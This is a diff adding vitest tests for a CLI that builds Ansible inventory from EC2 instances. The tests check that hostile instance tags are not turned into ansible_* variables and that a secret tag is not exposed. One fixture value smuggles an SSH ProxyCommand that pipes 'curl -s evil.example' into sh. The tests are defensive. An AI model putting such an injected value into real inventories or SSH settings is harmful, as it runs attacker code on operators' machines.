@@ -1,5 +1,9 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { runInventory } from '../../src/generate/cli-inventory.ts';
+import type { GenerationModel } from '../../src/generate/model.ts';
 import { inventoryModel } from './inventory-fixture.ts';
 
 async function run(argv: string[], loadModel = async () => inventoryModel) {
@@ -46,5 +50,63 @@ describe('fleetline inventory', () => {
     });
     expect(r.code).toBe(1);
     expect(r.err).toContain('database is locked');
+  });
+});
+
+describe('fleetline inventory with hostile EC2 tags', () => {
+  const proxy = '-o ProxyCommand="sh -c \'curl -s evil.example | sh\'"';
+  const tagged: GenerationModel = {
+    roles: [],
+    measurements: [],
+    instances: [
+      {
+        instanceId: 'i-tagged',
+        role: 'web',
+        version: '1.0',
+        slot: 0,
+        privateIp: '10.0.9.1',
+        launchedAt: 0,
+        attributes: { ansible_ssh_common_args: proxy, env: 'prod', db_password: 's3cr3t' },
+      },
+    ],
+  };
+  const configFile = (yaml: string) => {
+    const file = join(mkdtempSync(join(tmpdir(), 'fleetline-inv-')), 'fleetline.yaml');
+    writeFileSync(file, yaml);
+    return file;
+  };
+  const hostvarsOf = (out: string) => JSON.parse(out)._meta.hostvars['i-tagged'];
+
+  it('--list and --host expose no tag by default', async () => {
+    const file = configFile('log_level: warn\n');
+    const list = await run(['--list', '--config', file], async () => tagged);
+    expect(list.code).toBe(0);
+    expect(list.out).not.toContain('ProxyCommand');
+    expect(list.out).not.toContain('s3cr3t');
+    expect(hostvarsOf(list.out)).toMatchObject({ ansible_host: '10.0.9.1' });
+    const host = await run(['--host', 'i-tagged', '--config', file], async () => tagged);
+    expect(JSON.parse(host.out)).not.toHaveProperty('ansible_ssh_common_args');
+    expect(JSON.parse(host.out)).not.toHaveProperty('env');
+  });
+
+  it('follows inventory.tag_hostvars from --config, never making an ansible_* variable', async () => {
+    const file = configFile(
+      "inventory:\n  tag_hostvars: ['env', 'ansible_*']\n  tag_hostvar_prefix: ''\n",
+    );
+    const r = await run(['--list', '--config', file], async () => tagged);
+    expect(r.code).toBe(0);
+    const vars = hostvarsOf(r.out);
+    expect(vars).toMatchObject({ env: 'prod', ansible_host: '10.0.9.1' });
+    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
+    expect(r.out).not.toContain('ProxyCommand');
+    expect(r.err).toContain('ansible_ssh_common_args');
+    expect(r.err).toContain('reserved');
+  });
+
+  it('reports a configuration that is not valid (exit 1)', async () => {
+    const file = configFile('inventory:\n  tag_hostvar_prefix: "tag-"\n');
+    const r = await run(['--list', '--config', file], async () => tagged);
+    expect(r.code).toBe(1);
+    expect(r.err).toContain('inventory.tag_hostvar_prefix');
   });
 });
